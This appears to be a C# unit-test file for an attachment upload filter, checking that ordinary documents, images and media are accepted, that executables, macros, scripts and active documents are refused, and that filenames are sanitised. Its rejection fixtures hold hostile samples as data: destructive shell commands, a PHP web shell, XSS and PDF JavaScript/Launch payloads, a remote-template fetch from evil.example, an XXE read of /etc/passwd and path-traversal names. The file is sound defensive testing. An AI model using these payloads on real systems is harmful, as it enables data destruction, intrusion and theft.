using System.Text;
using Wardwise.App.Records;
using static Wardwise.App.Tests.Records.MadeFiles;

namespace Wardwise.App.Tests.Records;

/// <summary>What people really attach goes in; programs, macros and what cannot be checked never do, whatever they are called.</summary>
public sealed class FilesTakenTests
{
    public static TheoryData<string, string, byte[]> Taken =>
        new()
        {
            { "letter.txt", "text/plain", "Dear all,\r\nthe gap is shut.\r\n"u8.ToArray() },
            { "ansi.txt", "text/plain", [.. "It cost "u8, 0xA3, .. "40 at the caf"u8, 0xE9, .. "\r\n"u8] },
            { "utf16.txt", "text/plain", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("Notes of the meeting")] },
            { "table.csv", "text/csv", "month,count\n2026-01,4\n"u8.ToArray() },
            { "sums.csv", "text/csv", "a,b\n=SUM(A1:A2),-4\n+44 1438 1234,@a\nyes|no,it's 'here'!\n"u8.ToArray() },
            { "entity.xml", "text/plain", "<r>&nbsp;<description/></r>"u8.ToArray() },
            {
                "set.odt",
                "application/vnd.oasis.opendocument.text",
                Zip(
                    ("mimetype", "application/vnd.oasis.opendocument.text"),
                    ("content.xml", "<o formula='of:=SUM([.A1:.A2])'/>"),
                    ("Configurations2/accelerator/current.xml", ""),
                    ("Configurations2/toolbar/a.xml", "<t xmlns:x='http://www.w3.org/1999/xlink'><i x:href='.uno:Save'/></t>")
                )
            },
            {
                "pivot.xlsx",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                Zip(
                    ("[Content_Types].xml", "<Types/>"),
                    ("xl/workbook.xml", "<workbook><definedName name='a'>Sheet1!$A$1</definedName></workbook>"),
                    ("xl/connections.xml", "<connections><connection interval='0'/></connections>"),
                    ("xl/pivot.xml", "<pivotCacheDefinition refreshOnLoad='1'><cacheSource type='worksheet'/></pivotCacheDefinition>")
                )
            },
            { "photo.heic", "image/heic", Boxed("heic") },
            { "photo.HEIC", "image/heif", Boxed("mif1") },
            { "photo.avif", "image/avif", Boxed("avif") },
            { "film.mov", "video/quicktime", Boxed("qt  ") },
            { "film.mp4", "video/mp4", Boxed("isom") },
            { "sound.m4a", "audio/mp4", Boxed("M4A ") },
            { "film.3gp", "video/3gpp", Boxed("3gp5") },
            { "film.m4v", "video/mp4", Boxed("M4VP") },
            { "film.f4v", "video/mp4", Boxed("f4v ") },
            { "film.mp4", "video/mp4", Boxed("NDSC") },
            { "film.mp4", "video/mp4", Boxed("CAEP") },
            { "film.mp4", "video/mp4", Boxed("mmp4") },
            { "film.mp4", "video/mp4", [0, 0, 0, 24, .. "ftypXXXX"u8, 0, 0, 0, 0, .. "YYYYmp42"u8] },
            { "sound.m4a", "video/mp4", Boxed("mp42") },
            { "film.mpg", "video/mpeg", [0, 0, 1, 0xBA, 0x44, 0, 4, 0, 4, 1, 1, 0x89] },
            { "film.mts", "video/mp2t", [.. Enumerable.Range(0, 6 * 192).Select(i => (byte)(i % 192 == 4 ? 0x47 : 0xFF))] },
            { "film.ts", "video/mp2t", [.. Enumerable.Range(0, 6 * 188).Select(i => (byte)(i % 188 == 0 ? 0x47 : 0xFF))] },
            { "sound.caf", "audio/x-caf", [.. "caff"u8, 0, 1, 0, 0, .. "desc"u8] },
            { "sound.aiff", "audio/aiff", [.. "FORM"u8, 0, 0, 0, 9, .. "AIFFCOMM"u8] },
            { "photo.jp2", "image/jp2", [0, 0, 0, 12, .. "jP  "u8, 0x0D, 0x0A, 0x87, 0x0A, 0, 0, 0, 20] },
            { "photo.JPEG", "image/jpeg", [0xFF, 0xD8, 0xFF, 0xE1, 0, 16, .. "Exif\0"u8] },
            { "Minutes 12.06.2026", "text/plain", "The gap is shut."u8.ToArray() },
            { "From Mr. Smith", "text/plain", "The gap is shut."u8.ToArray() },
            { "plan.doc", "application/rtf", "{\\rtf1{\\*\\template C:\\\\Users\\\\a\\\\Normal.dotm}\\par\nobject}"u8.ToArray() },
            { "data.xml", "text/plain", "<?xml version=\"1.0\"?><rows><row n=\"1\"/></rows>"u8.ToArray() },
            { "mail.eml", "message/rfc822", Letter("Content-Type: text/plain; name=notes.txt", "They came again.") },
            {
                "mail.eml",
                "message/rfc822",
                Letter(
                    "Content-Type: text/plain; name=\"a; name=b.txt\"\r\n"
                        + "Content-Disposition: attachment; filename=a.txt; filename*=utf-8''%C3%A4.txt",
                    "They came again."
                )
            },
            {
                "mail.eml",
                "message/rfc822",
                Letter(
                    "Content-Type: image/png; name=\"=?utf-8?B?Zm90by5wbmc=?=\"\r\nContent-Transfer-Encoding: base64",
                    "iVBORw0KGgoAAAAA"
                )
            },
            {
                "fields.docx",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                Word(Field(" PAGE ") + Field(" HYPERLINK \"https://a.example\" ") + Field(" IF ", Field(" MERGEFIELD x "), " = 1 "))
            },
            {
                "flat.fodt",
                "application/vnd.oasis.opendocument.text",
                Flat("<o:scripts><o:script s:language='ooo:Basic'/></o:scripts><o:body/>")
            },
            { "sound.wav", "audio/wav", [.. "RIFF"u8, 0, 0, 0, 0, .. "WAVEfmt "u8] },
            { "photo.webp", "image/webp", [.. "RIFF"u8, 0, 0, 0, 0, .. "WEBPVP8 "u8] },
            { "sound.mp3", "audio/mpeg", [.. "ID3"u8, 3, 0, 0, 0, 0, 0, 0] },
            { "sound.ogg", "audio/ogg", [.. "OggS"u8, 0, 2, 0, 0] },
            { "sound.amr", "audio/amr", [.. "#!AMR\n"u8, 0x3C, 0] },
            { "photo.jpg", "image/jpeg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8] },
            { "plan.rtf", "application/rtf", "{\\rtf1\\ansi The plan}"u8.ToArray() },
            {
                "mail.eml",
                "message/rfc822",
                "From: a@b.example\r\nTo: c@d.example\r\nSubject: Bikes\r\n\r\nThey came again.\r\n"u8.ToArray()
            },
            {
                "plan.docx",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w/>"))
            },
            {
                "list.xlsx",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                Zip(("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<w/>"))
            },
            {
                "talk.pptx",
                "application/vnd.openxmlformats-officedocument.presentationml.presentation",
                Zip(("[Content_Types].xml", "<Types/>"), ("ppt/presentation.xml", "<p/>"))
            },
            {
                "plan.odt",
                "application/vnd.oasis.opendocument.text",
                Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<o/>"))
            },
            {
                "list.ods",
                "application/vnd.oasis.opendocument.spreadsheet",
                Zip(("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", "<o/>"))
            },
            {
                "signed.eml",
                "message/rfc822",
                Letter("Content-Type: multipart/signed; boundary=y", Signed([0x30, 0x82, 1, 0, 6, 9, 0, 1]))
            },
            {
                "archive.pdf",
                "application/pdf",
                [
                    .. "%PDF-1.7\n1 0 obj\n<</Type/Catalog/MarkInfo<</Marked true>>/StructTreeRoot 2 0 R/Lang(en-GB)/Metadata 3 0 R"u8,
                    .. "/OutputIntents[<</S/GTS_PDFA1/DestOutputProfile 4 0 R>>]/AcroForm<</Fields[5 0 R]/DA(/Helv 0 Tf)>>>>\nendobj\n"u8,
                    .. "5 0 obj\n<</FT/Tx/T(name)/EFormat/A/JSName/B>>\nendobj\n"u8,
                    // By chance, among the bytes of a picture.
                    .. "6 0 obj\n<</Length 16>>\nstream\n"u8,
                    .. "/EF(/JS/EF "u8,
                    1,
                    .. "/JS("u8,
                    0x81,
                    .. "/EF<\nendstream\nendobj\n%%EOF"u8,
                ]
            },
            { "plan.pdf", "application/pdf", "%PDF-1.4\n1 0 obj\n<</Type/Catalog>>\nendobj\n%%EOF"u8.ToArray() },
            {
                "links.docx",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                Related("<Relationship Type=\"x/relationships/hyperlink\" Target=\"https://a.example\" TargetMode=\"External\"/>")
            },
            {
                "links.odt",
                "application/vnd.oasis.opendocument.text",
                OpenText("<text:a xlink:href='https://a.example'/><draw:image xlink:href='Pictures/1.png'/><o xlink:href='#top'/>")
            },
            {
                "map.odt",
                "application/vnd.oasis.opendocument.text",
                OpenText(
                    "<draw:area-rectangle xlink:href='https://a.example'/><draw:area-circle xlink:href='https://a.example'/>"
                        + "<draw:area-polygon xlink:href='https://a.example'/>"
                )
            },
            { "plan.fodt", "application/vnd.oasis.opendocument.text", Flat("<template x:href='/C:/Users/a/plan.ott'/>") },
            { "plan.rtf", "application/rtf", "{\\rtf1{\\shp{\\sp{\\sn wzDescription}{\\sv Map: Bandley Hill}}}}"u8.ToArray() },
            {
                "form.rtf",
                "application/rtf",
                Encoding.ASCII.GetBytes(
                    @"{\rtf1\uc1{\field{\*\fldinst {\*\bkmkstart Text1}{\rtlch\fcs1 \af0  FORMTEXT }{{\*\datafield 800d}"
                        + @"{\*\formfield{\fftype0{\*\ffname Text1}}}}}{\fldrslt \u8217\'92s}}{\*\bkmkend Text1}}"
                )
            },
            {
                "link.rtf",
                "application/rtf",
                Encoding.ASCII.GetBytes(@"{\rtf1{\field{\*\fldinst { HYPERLINK ""https://a.example/\u8217\'92"" }}{\fldrslt x}}}")
            },
            { "old.doc", "application/msword", Compound(("WordDocument", [1, 2, 3])) },
            { "old.xls", "application/vnd.ms-excel", Compound(("Workbook", Sheet(0))) },
            { "adds.xls", "application/vnd.ms-excel", Compound(("Workbook", [.. Outside([3, 0, 1, 4]), .. Outside([1, 0, 1, 0x3A])])) },
            { "adds.xls", "application/vnd.ms-excel", Compound(("Book", [.. OldOutside([1, 3, .. "S"u8]), .. OldOutside([1, 0x3A])])) },
            { "old.ppt", "application/vnd.ms-powerpoint", Compound(("PowerPoint Document", [0x0F, 0, 0xE8, 3, 0, 0, 0, 0])) },
            {
                "mail.msg",
                "application/vnd.ms-outlook",
                Compound(("__properties_version1.0", [0]), ("__substg1.0_37010102", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16]))
            },
        };

    public static TheoryData<string, string, byte[]> NotTaken =>
        new()
        {
            { "bad.pdf", "program", RunsAsIs },
            { "bad.txt", "program", RunsAsIs },
            { "bad.jpg", "program", [0x7F, .. "ELF"u8, 2, 1, 1] },
            { "bad", "program", [0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1] },
            { "notes.txt", "program", "#!/bin/sh\nrm -rf /\n"u8.ToArray() },
            { "notes.txt", "program", "@echo off\r\ndel /s *\r\n"u8.ToArray() },
            { "notes.txt", "program", "Windows Registry Editor Version 5.00\r\n"u8.ToArray() },
            { "notes.txt", "program", "<?php system($_GET[0]);"u8.ToArray() },
            { "run.bat", "program", "echo hello"u8.ToArray() },
            { "run.ps1", "program", "Get-Process"u8.ToArray() },
            { "run.js", "program", "alert(1)"u8.ToArray() },
            { "run.VBS", "program", "MsgBox 1"u8.ToArray() },
            { "go.hta", "program", "hello"u8.ToArray() },
            { "go.txt", "program", [0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0] },
            { "go.zip", "program", Zip(("META-INF/MANIFEST.MF", "Main-Class: X")) },
            { "go.zip", "program", Zip(("classes.dex", "dex")) },
            { "disc.bin", "program", [.. new byte[0x8001], .. "CD001"u8, 1, 0] },
            { "setup.msi", "program", Compound(("SummaryInformation", [1])) },
            { "setup.doc", "program", Compound(("SummaryInformation", [1])) },
            { "page.html", "Web pages", "<p>hello</p>"u8.ToArray() },
            { "page.txt", "Web pages", "<!DOCTYPE html><script>alert(1)</script>"u8.ToArray() },
            { "draw.svg", "Web pages", "<svg/>"u8.ToArray() },
            { "draw.png", "Web pages", "<?xml version=\"1.0\"?><svg onload=\"alert(1)\"></svg>"u8.ToArray() },
            { "photo.jpg", "two kinds", [0xFF, 0xD8, 0xFF, 0xE0, .. new byte[40], .. Zip(("x.class", "x"))] },
            { "photo.gif", "two kinds", [.. "GIF89a"u8, .. "<script>alert(1)</script>"u8] },
            {
                "macro.docx",
                "macros",
                Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w/>"), ("word/vbaProject.bin", "x"))
            },
            {
                "macro.docx",
                "macros",
                Zip(("[Content_Types].xml", Types("application/vnd.ms-word.document.macroEnabled.main+xml")), ("word/document.xml", "<w/>"))
            },
            {
                "macro.docx",
                "macros",
                Zip(("[Content_Types].xml", Types("application/vnd.ms-word.document.macro&#69;nabled")), ("word/document.xml", "<w/>"))
            },
            { "macro.odt", "macros", OpenText("<s:event-listener xmlns:s='urn:oasis:names:tc:opendocument:xmlns:script:1.0'/>") },
            { "macro.docm", "macros", "text"u8.ToArray() },
            {
                "macro.xlsx",
                "macros",
                Zip(("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<w/>"), ("xl/macrosheets/sheet1.xml", "<m/>"))
            },
            { "macro.xlsx", "macros", Zip(("[Content_Types].xml", "<Types/>"), ("xl/workbook.bin", "b")) },
            { "macro.odt", "macros", Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("Basic/Standard/Module1.xml", "<x/>")) },
            { "macro.odt", "macros", Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("Scripts/python/x.py", "x")) },
            { "macro.doc", "macros", Compound(("WordDocument", [1]), ("VBA", [1])) },
            { "macro.doc", "macros", Compound(("WordDocument", [1]), ("_VBA_PROJECT", [1])) },
            { "macro.xls", "macros", Compound(("Workbook", Sheet(1))) },
            { "macro.ppt", "macros", Compound(("PowerPoint Document", [0x0F, 0, 0xE8, 3, 16, 0, 0, 0, 0x0F, 0, 0xFF, 3, 0, 0, 0, 0])) },
            { "word.doc", "macros", "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:x/>"u8.ToArray() },
            { "locked.docx", "locked", Compound(("EncryptedPackage", [1]), ("EncryptionInfo", [1])) },
            { "locked.xls", "locked", Compound(("Workbook", [9, 8, 2, 0, 0, 6, 0x2F, 0, 2, 0, 1, 0])) },
            {
                "inside.docx",
                "inside",
                Zip(
                    ("[Content_Types].xml", "<Types/>"),
                    ("word/document.xml", "<w/>"),
                    ("word/embeddings/oleObject1.bin", "MZ" + new string('\0', 40))
                )
            },
            {
                "fetch.docx",
                "inside",
                Zip(
                    ("[Content_Types].xml", "<Types/>"),
                    ("word/document.xml", "<w/>"),
                    (
                        "word/_rels/settings.xml.rels",
                        "<Relationships><Relationship Type=\"x/attachedTemplate\" "
                            + "Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"
                    )
                )
            },
            {
                "fetch.docx",
                "inside",
                Related("<Relationship\nType=\"x/attachedTemplate\" Target=\"http://e/t\" TargetMode=\"External\"/>")
            },
            { "fetch.docx", "inside", Related("<Relationship\tType=\"x/oleObject\" Target=\"http://e/t\" TargetMode=\"External\"/>") },
            {
                "fetch.docx",
                "inside",
                Related("<Relationship Type=\"x/attached&#84;emplate\" Target=\"http://e/t\" TargetMode=\"E&#120;ternal\"/>")
            },
            {
                "fetch.docx",
                "inside",
                Related("<r:Relationship xmlns:r=\"x\" Type=\"x/frame\" Target=\"http://e/t\" TargetMode=\"External\"/>")
            },
            { "fetch.docx", "inside", Related("<Relationship Type=\"x/image\" Target=\"http://e/t.png\" TargetMode=\"External\"/>") },
            { "fetch.odt", "inside", OpenText("<draw:image xlink:href='http://e/t.png'/>") },
            {
                "fetch.odt",
                "inside",
                Zip(
                    ("mimetype", "application/vnd.oasis.opendocument.text"),
                    ("meta.xml", "<m:auto-reload xmlns:m='m' xmlns:x='http://www.w3.org/1999/xlink' x:href='http://e/t'/>")
                )
            },
            { "fetch.odt", "inside", OpenText("<text:section-source xlink:href='../other.odt'/>") },
            { "odd.docx", "damaged", Related("<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>") },
            { "objects.rtf", "inside", "{\\rtf1{\\object\\objemb{\\*\\objdata 01050000}}}"u8.ToArray() },
            { "files.zip", "archive", Zip(("a.txt", "a")) },
            { "files.rar", "archive", [.. "Rar!"u8, 0x1A, 7, 0] },
            { "script.pdf", "This PDF", "%PDF-1.4\n1 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj"u8.ToArray() },
            { "script.pdf", "This PDF", "%PDF-1.4\n1 0 obj\n<</S/J#61vaScript/JS(app.alert(1))>>\nendobj"u8.ToArray() },
            { "launch.pdf", "This PDF", "%PDF-1.4\n1 0 obj\n<</S /Launch /F (cmd.exe)>>\nendobj"u8.ToArray() },
            { "mail.eml", "program", Letter("Content-Disposition: attachment; filename=\"invoice.exe\"", "hello") },
            { "mail.msg", "program", Compound(("__properties_version1.0", [0]), ("__substg1.0_37010102", RunsAsIs)) },
            { "unknown.xyz", "not taken", [1, 2, 3, 4, 0, 0, 7] },
            { "cut.docx", "damaged", Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w/>"))[..60] },
        };

    [Theory]
    [MemberData(nameof(Taken))]
    public void WhatPeopleAttach_GoesIn(string name, string type, byte[] content)
    {
        var of = Of(name, content);
        Assert.True(of.Done, of.Done ? "" : of.Refusals[0].Sentence);
        Assert.Equal(type, of.Value);
    }

    [Theory]
    [MemberData(nameof(NotTaken))]
    public void WhatRunsHidesOrCannotBeChecked_IsRefused_WithWhatToDo(string name, string says, byte[] content)
    {
        var of = Of(name, content);
        Assert.False(of.Done, name);
        Assert.Contains(says, of.Refusals[0].Sentence, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("text/html")]
    [InlineData("image/svg+xml")]
    [InlineData("image/heic")]
    [InlineData("text/plain")]
    public void OnlyPicturesAndPdfs_AreShown(string type) => Assert.False(MediaTypes.IsShownInline(type));

    [Fact]
    public void DamagedFiles_EndInASentence()
    {
        var dice = new Random(11);
        foreach (var content in Taken.Concat(NotTaken).Select(row => (byte[])((object[])row)[2]).Where(c => c.Length < 40_000))
        {
            for (var i = 0; i < 30; i++)
            {
                var damaged = content.ToArray();
                for (var j = 0; j < 1 + (i % 5); j++)
                {
                    damaged[dice.Next(damaged.Length)] = (byte)dice.Next(256);
                }

                var of = Of("file.doc", damaged[..dice.Next(1, damaged.Length + 1)]);
                Assert.True(of.Done || of.Refusals[0].Sentence.Length > 0);
            }
        }
    }

    [Theory]
    [InlineData("photo\u202Egpj.exe", "photogpj.exe")]
    [InlineData("..\\..\\etc\\passwd", "passwd")]
    [InlineData("a\u0000b\tc\u200B.txt", "abc.txt")]
    [InlineData("CON.txt", "file-CON.txt")]
    [InlineData("nul", "file-nul")]
    [InlineData("lpt1.pdf", "file-lpt1.pdf")]
    [InlineData(" . ", "file")]
    [InlineData("a<b>:c?.txt", "abc.txt")]
    public void AName_LosesWhatDeceivesOrTrips(string given, string kept) => Assert.Equal(kept, AttachmentFolder.NameOf(given));

    [Fact]
    public void HalfACharacterInAName_IsNone() => Assert.Equal("half\uFFFD.txt", AttachmentFolder.NameOf("half\uD83D.txt"));

    [Theory]
    [InlineData("🚲", "a", 115, ".pdf")]
    [InlineData("", "🚲", 100, ".jpeg")]
    [InlineData("", "é", 300, "")]
    [InlineData("", "字", 119, ".docx")]
    public void ALongName_IsCutOnWholeCharacters_AndKeepsItsEnding(string first, string letter, int many, string end)
    {
        var kept = AttachmentFolder.NameOf(first + string.Concat(Enumerable.Repeat(letter, many)) + end);
        Assert.True(kept.Length <= 120 && Encoding.UTF8.GetByteCount(kept) <= 240);
        Assert.EndsWith(end, kept, StringComparison.Ordinal);
        Assert.Equal(kept, Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(kept)));
    }
}
